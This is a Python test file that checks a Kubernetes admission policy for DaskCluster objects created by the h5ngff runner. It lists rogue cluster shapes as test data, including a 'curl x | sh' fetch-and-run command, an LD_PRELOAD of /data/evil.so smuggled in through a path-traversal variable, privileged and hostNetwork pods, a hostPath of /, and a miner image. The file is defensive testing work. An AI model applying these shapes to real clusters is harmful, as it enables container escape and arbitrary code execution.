"""The DaskCluster ValidatingAdmissionPolicy (issue 41, B): rendered by the real chart (Helm through
helm-python-sdk), checked against the Kubernetes schemas (kubernetes-validate, in test_helm.py's
every-object test), and its CEL evaluated with cel-python on DaskClusters: the one h5ngff's
runner builds is admitted, each rogue shape is refused with its rule's message, a cluster another
team makes is not matched at all, and every rule is needed by some rogue shape.

No API server runs here: that Kubernetes' CEL type checker and cost estimator accept the rules is
not exercised (docs/operator.md, "Limits"); the rules use only standard CEL.
"""

from __future__ import annotations

import copy
import functools
import json
from typing import Any, Callable

import celpy
import pytest
from celpy import celtypes

from h5ngff.backends.kubernetes import KubernetesBackend, build_dask_cluster
from h5ngff.jobspec import Owner, parse_job_spec
from h5ngff.planner import DEFAULT_CONSTANTS, DatasetInfo, make_plan
from test_helm import render

RUNNER = "system:serviceaccount:imaging:h5ngff-runner"
NOTEBOOK = "system:serviceaccount:imaging:jupyter"
LAB_IMAGE = "registry.example.org/lab/h5ngff:2"
VALUES = {"policy": {"allowedImages": ["registry.example.org/lab/*"]}}
_ENV = celpy.Environment()


def policy(values: dict | None = None) -> dict[str, Any]:
    (vap,) = [o for o in render(values) if o["kind"] == "ValidatingAdmissionPolicy"]
    return vap


@functools.lru_cache(maxsize=None)
def _program(expression: str) -> Any:
    return _ENV.program(_ENV.compile(expression))


def _true(expression: str, activation: dict[str, Any]) -> bool:
    try:
        result = _program(expression).evaluate(activation)
    except celpy.CELEvalError:
        return False  # the API server refuses on an evaluation error (failurePolicy: Fail)
    return isinstance(result, celtypes.BoolType) and bool(result)


def refusals(
    vap: dict[str, Any], cluster: dict[str, Any], user: str = RUNNER, skip: str | None = None
) -> list[str] | None:
    """The messages of the rules ``cluster`` breaks, or None when the policy does not apply."""
    activation = {"object": celpy.json_to_cel(cluster), "request": celpy.json_to_cel({"userInfo": {"username": user}})}
    if not all(_true(c["expression"], activation) for c in vap["spec"]["matchConditions"]):
        return None
    rules = [v for v in vap["spec"]["validations"] if v["expression"] != skip]
    return [v["message"] for v in rules if not _true(v["expression"], activation)]


def as_runner_builds(image: str = "ghcr.io/h5ngff/h5ngff:0.1.0", **pod: Any) -> dict[str, Any]:
    spec = parse_job_spec(
        {
            "source": {"path": "/data/in.h5", "dataset": "/d"},
            "output": {"path": "/data/out.ome.zarr"},
            "pod": {
                "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "scans"}}],
                "volumeMounts": [{"name": "data", "mountPath": "/data"}],
                "credentialsSecret": "s3",
                **pod,
            },
        }
    )
    dataset = DatasetInfo(shape=(128, 512, 512), dtype="<u2", itemsize=2)
    owner = Owner("imaging", "scan", "uid-1", 1)
    capacity = KubernetesBackend(owner, image=image).capacity()
    plan = make_plan(dataset, spec.conversion(), capacity, DEFAULT_CONSTANTS, "jemalloc")
    cluster = build_dask_cluster(plan, owner, image, spec.pod, allocator_library="/usr/local/lib/libjemalloc.so.2")
    return json.loads(json.dumps(cluster))


def _pod(c: dict, role: str) -> dict:
    return c["spec"][role]["spec"]


def _container(c: dict, role: str) -> dict:
    return _pod(c, role)["containers"][0]


def _set_env(c: dict, role: str, *entries: dict) -> None:
    _container(c, role)["env"] = [*_container(c, role)["env"], *entries]


#: Rogue shapes, each applied to one pod role (scheduler, worker): (change, words of the refusal).
ROGUE: dict[str, tuple[Callable[[dict, str], Any], str]] = {
    "hostNetwork": (lambda c, r: _pod(c, r).update(hostNetwork=True), "host namespace"),
    "nodeName": (lambda c, r: _pod(c, r).update(nodeName="control-plane-1"), "pod fields"),
    "two containers": (lambda c, r: _pod(c, r)["containers"].append(_container(c, r)), "exactly one container"),
    "a token": (lambda c, r: _pod(c, r).pop("automountServiceAccountToken"), "automountServiceAccountToken"),
    "root": (lambda c, r: _pod(c, r)["securityContext"].pop("runAsNonRoot"), "non-root"),
    "hostPath /": (
        lambda c, r: _pod(c, r)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
        "volumes of the types",
    ),
    "a command": (lambda c, r: _container(c, r).update(command=["sh", "-c", "curl x | sh"]), "container fields"),
    "another image": (lambda c, r: _container(c, r).update(image="evil.example/miner:1"), "images the tenant policy"),
    "privileged": (lambda c, r: _container(c, r)["securityContext"].update(privileged=True), "no privilege"),
    "hostPort": (
        lambda c, r: _container(c, r).setdefault("ports", []).append({"containerPort": 1, "hostPort": 22}),
        "port of the node",
    ),
    "PYTHONPATH": (lambda c, r: _set_env(c, r, {"name": "PYTHONPATH", "value": "/data"}), "environment variables"),
    "LD_PRELOAD through $(VAR)": (
        lambda c, r: _set_env(
            c,
            r,
            {"name": "MALLOC_ARENA_MAX", "value": "../../data/evil.so"},
            {"name": "LD_PRELOAD", "value": "/usr/$(MALLOC_ARENA_MAX)"},
        ),
        "$(VAR)",
    ),
    "LD_PRELOAD of a volume": (
        lambda c, r: _set_env(c, r, {"name": "LD_PRELOAD", "value": "/data/evil.so"}),
        "LD_PRELOAD",
    ),
    "HOME elsewhere": (
        lambda c, r: _container(c, r).update(
            env=[{**e, "value": "/data"} if e["name"] == "HOME" else e for e in _container(c, r)["env"]]
        ),
        "HOME must be",
    ),
    "no PYTHONSAFEPATH": (
        lambda c, r: _container(c, r).update(env=[e for e in _container(c, r)["env"] if e["name"] != "PYTHONSAFEPATH"]),
        "PYTHONSAFEPATH",
    ),
    "a mount over /usr/lib": (
        lambda c, r: _container(c, r)["volumeMounts"].append({"name": "data", "mountPath": "/usr/lib"}),
        "system paths",
    ),
    "the claim at HOME": (
        lambda c, r: _container(c, r)["volumeMounts"].append({"name": "data", "mountPath": "/tmp/.local"}),
        "emptyDir at HOME",
    ),
    "an AppArmor annotation": (
        lambda c, r: (
            c["spec"][r]
            .setdefault("metadata", {})
            .setdefault("annotations", {})
            .update({"container.apparmor.security.beta.kubernetes.io/worker": "unconfined"})
        ),
        "AppArmor",
    ),
}
WHOLE: dict[str, tuple[Callable[[dict], Any], str]] = {
    "no managed-by label": (lambda c: c["metadata"]["labels"].pop("app.kubernetes.io/managed-by"), "managed-by"),
    "no owner": (lambda c: c["metadata"].pop("ownerReferences"), "owned by"),
    "a NodePort scheduler": (lambda c: c["spec"]["scheduler"]["service"].update(type="NodePort"), "ClusterIP"),
    "an annotation on the cluster": (
        lambda c: (
            c["metadata"]
            .setdefault("annotations", {})
            .update({"seccomp.security.alpha.kubernetes.io/pod": "unconfined"})
        ),
        "seccomp",
    ),
}


def rogue_clusters() -> dict[str, tuple[dict, str]]:
    out = {}
    for name, (change, words) in ROGUE.items():
        for role in ("scheduler", "worker"):
            cluster = as_runner_builds()
            change(cluster, role)
            out[f"{role}: {name}"] = (cluster, words)
    for name, (change, words) in WHOLE.items():
        cluster = as_runner_builds()
        change(cluster)
        out[name] = (cluster, words)
    return out


@pytest.fixture(scope="module")
def vap() -> dict[str, Any]:
    return policy()


@pytest.fixture(scope="module")
def rogues() -> dict[str, tuple[dict, str]]:
    return rogue_clusters()


def test_the_chart_ships_the_policy_and_its_binding():
    objects = render()
    (binding,) = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicyBinding"]
    (vap,) = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicy"]
    assert binding["spec"]["policyName"] == vap["metadata"]["name"] and binding["spec"]["validationActions"] == ["Deny"]
    assert vap["spec"]["failurePolicy"] == "Fail"
    assert vap["spec"]["matchConstraints"]["resourceRules"][0]["resources"] == ["daskclusters"]
    assert not [o for o in render({"admissionPolicy": {"enabled": False}}) if "AdmissionPolicy" in o["kind"]]


def test_the_cluster_the_runner_builds_is_admitted(vap):
    assert refusals(vap, as_runner_builds()) == []


def test_the_policy_applies_only_to_the_runners_service_accounts(vap, rogues):
    cluster, _ = rogues["worker: hostNetwork"]
    assert refusals(vap, cluster, user=NOTEBOOK) is None  # another team's cluster: none of h5ngff's business
    assert refusals(vap, cluster, user=RUNNER)  # control: the runner's is refused
    lab = policy({"policy": {"allowedServiceAccounts": ["lab-runner"]}})
    assert refusals(lab, cluster, user="system:serviceaccount:tomo:lab-runner")


@pytest.mark.slow
def test_the_admins_images_are_admitted_and_others_refused():
    lab = policy(VALUES)
    assert refusals(lab, as_runner_builds(image=LAB_IMAGE)) == []
    assert any("images" in m for m in refusals(lab, as_runner_builds(image="registry.example.org/other/x:1")))
    # The glob's dots are literal: registry-example-org does not match registry.example.org.
    assert any("images" in m for m in refusals(lab, as_runner_builds(image="registry-example-org/lab/x:1")))


@pytest.mark.parametrize("name", sorted(rogue_clusters()))
def test_a_rogue_cluster_is_refused_with_its_rule(vap, rogues, name):
    cluster, words = rogues[name]
    messages = refusals(vap, cluster)
    assert messages and any(words in m for m in messages), messages


@pytest.mark.slow
def test_every_rule_is_needed_by_some_rogue_cluster(vap, rogues):
    """Negative control: drop any one rule and some rogue cluster is admitted."""
    broken = {name: refusals(vap, cluster) for name, (cluster, _) in rogues.items()}
    for rule in vap["spec"]["validations"]:
        # Without this rule, a cluster whose only refusal was this rule's message is admitted.
        admitted = [n for n, messages in broken.items() if messages == [rule["message"]]]
        assert admitted, f"no rogue cluster needs {rule['message']!r}"


def test_the_runners_cluster_with_the_edits_the_docs_say_keep_the_conversion_is_admitted():
    """Another allowed image and a nodeSelector (the guard judges placement against the job)."""
    lab = policy(VALUES)
    cluster = as_runner_builds(image=LAB_IMAGE, nodeSelector={"pool": "b"})
    assert refusals(lab, copy.deepcopy(cluster)) == []


def test_the_kubernetes_schema_checks_the_policy_objects():
    """Negative control of test_helm.py's every-object validation for these kinds: a broken
    policy fails kubernetes-validate."""
    import kubernetes_validate

    from test_helm import KUBE_VERSION

    for obj in (o for o in render() if "AdmissionPolicy" in o["kind"]):
        kubernetes_validate.validate(obj, KUBE_VERSION, strict=True)
        broken = copy.deepcopy(obj)
        broken["spec"]["bogusField"] = True
        with pytest.raises(kubernetes_validate.ValidationError):
            kubernetes_validate.validate(broken, KUBE_VERSION, strict=True)
